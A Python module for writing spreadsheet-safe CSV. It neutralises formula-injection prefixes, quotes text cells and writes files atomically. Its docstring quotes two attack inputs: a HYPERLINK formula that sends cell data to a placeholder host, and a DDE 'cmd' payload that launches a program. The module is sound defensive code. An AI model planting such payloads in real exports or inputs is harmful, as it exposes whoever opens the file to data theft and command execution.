"""CSV that people open in Excel, Google Sheets or LibreOffice, safe from formula injection.

A spreadsheet treats a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and
Excel also one that begins with a tab or a carriage return; a value a stranger typed into a form
(``=HYPERLINK("http://x/?"&A1,"Click")``, ``@SUM(1+1)*cmd|' /C calc'!A0``) would then run on the
machine of whoever opens the export. Following OWASP's CSV Injection guidance (and ASVS 1.2.10),
every **text** cell that begins with one of those characters, with their full-width forms
(U+FF1D, U+FF0B, U+FF0D, U+FF20, which some spreadsheets read as the ASCII ones) or with a NUL,
is written with a single quote in front: the spreadsheet shows the text, the quote marks it as
text, nothing runs.
Text cells are always quoted and embedded quotes doubled (RFC 4180), so a comma, a quote or a
line break inside a value cannot start a new cell or row.

Numbers (``int``, ``float``, ``Decimal``) stay numbers, unquoted, so ``-1`` still sums; dates and
times are written as ISO 8601 text (``2026-11-24``, ``2026-11-24 09:30:00``), which every
spreadsheet reads as a date; booleans as ``true``/``false``; ``None`` as an empty cell. Only a
value that is text in the data is neutralised: the text ``"-1"`` (a phone field, say) becomes
``'-1``, the number ``-1`` stays ``-1``.

Files are written in UTF-8 with a byte-order mark by default, which Excel needs to read UTF-8
(accents, names in other scripts) instead of guessing a Windows code page.
"""

from __future__ import annotations

import csv
import math
import os
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path
from typing import TextIO

FORMULA_PREFIXES = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")
"""First characters that make a spreadsheet read a text cell as a formula (OWASP's list: = + - @,
tab and carriage return; their full-width forms; NUL, as ASVS 1.2.10 adds)."""

QUOTE = "'"
"""What goes in front of such a cell: a spreadsheet's mark for "this is text"."""

Cell = str | int | float | Decimal | bool | date | datetime | time | None
"""A value the writer knows how to write."""


def neutralise(text: str) -> str:
    """The text as a spreadsheet must show it: with a single quote in front when it begins with a
    character that would make it a formula, else unchanged."""
    return QUOTE + text if text[:1] in FORMULA_PREFIXES else text


def cell(value: object) -> str | int | float | Decimal:
    """One value as it is written: numbers as numbers, everything else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return value
    if isinstance(value, float):
        return value if math.isfinite(value) else ""
    if isinstance(value, Decimal):
        return value if value.is_finite() else ""
    if isinstance(value, datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, date | time):
        return value.isoformat()
    return neutralise(str(value))


class _Writer:
    """csv.writer with every text cell quoted and every number left bare."""

    def __init__(self, handle: TextIO) -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")

    def row(self, values: Iterable[object]) -> None:
        # QUOTE_NONNUMERIC leaves numbers (int, float, Decimal) bare and quotes the rest; an empty
        # cell is written as "", which every spreadsheet reads as empty.
        self._writer.writerow([cell(value) for value in values])


def write_csv(handle: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
    """Write the header and the rows to an open text handle (opened with ``newline=""``) as
    spreadsheet-safe CSV; the number of data rows written."""
    writer = _Writer(handle)
    writer.row(header)
    count = 0
    for row in rows:
        writer.row(row)
        count += 1
    return count


@contextmanager
def csv_file(path: Path, bom: bool = True) -> Iterator[TextIO]:
    """A text handle for writing CSV to ``path`` (UTF-8, with a byte-order mark unless ``bom`` is
    false). It writes to a temporary file beside ``path`` and renames it over ``path`` when the block
    ends without an error, so a failed export leaves no half-written file (and an older one intact)."""
    partial = path.with_name(f".{path.name}.{os.getpid()}.partial")
    try:
        with partial.open("w", encoding="utf-8-sig" if bom else "utf-8", newline="") as handle:
            yield handle
        os.replace(partial, path)
    finally:
        partial.unlink(missing_ok=True)
